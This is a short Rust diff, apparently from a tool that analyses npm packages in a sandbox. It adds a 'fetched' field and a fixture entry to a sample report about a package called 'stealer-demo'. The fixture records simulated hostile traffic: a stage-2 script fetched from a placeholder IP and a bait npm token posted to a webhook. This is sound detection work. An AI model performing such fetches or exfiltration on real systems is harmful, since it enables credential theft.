@@ -278,6 +278,7 @@ fn http(method: &str, url: &str, registry: bool, body: &str) -> HttpRequest {
         registry,
         status: 200,
         probe: false,
+        fetched: None,
     }
 }
 
@@ -419,6 +420,13 @@ pub fn sandboxed() -> Report {
             http("GET", "https://registry.npmjs.org/stealer-demo", true, ""),
             http("GET", "http://198.51.100.7/stage2.sh", false, ""),
             http("POST", "https://webhook.site/0000", false, "token=npm_bait"),
+            HttpRequest {
+                fetched: Some(
+                    "fetched on the host: HTTP 200, 5120 bytes from http://packages.example/helper.tgz"
+                        .into(),
+                ),
+                ..http("GET", "http://packages.example/helper.tgz", false, "")
+            },
         ],
         processes: vec![
             process(1, None, vec![exec(0, &["npm", "install", "stealer-demo"])]),
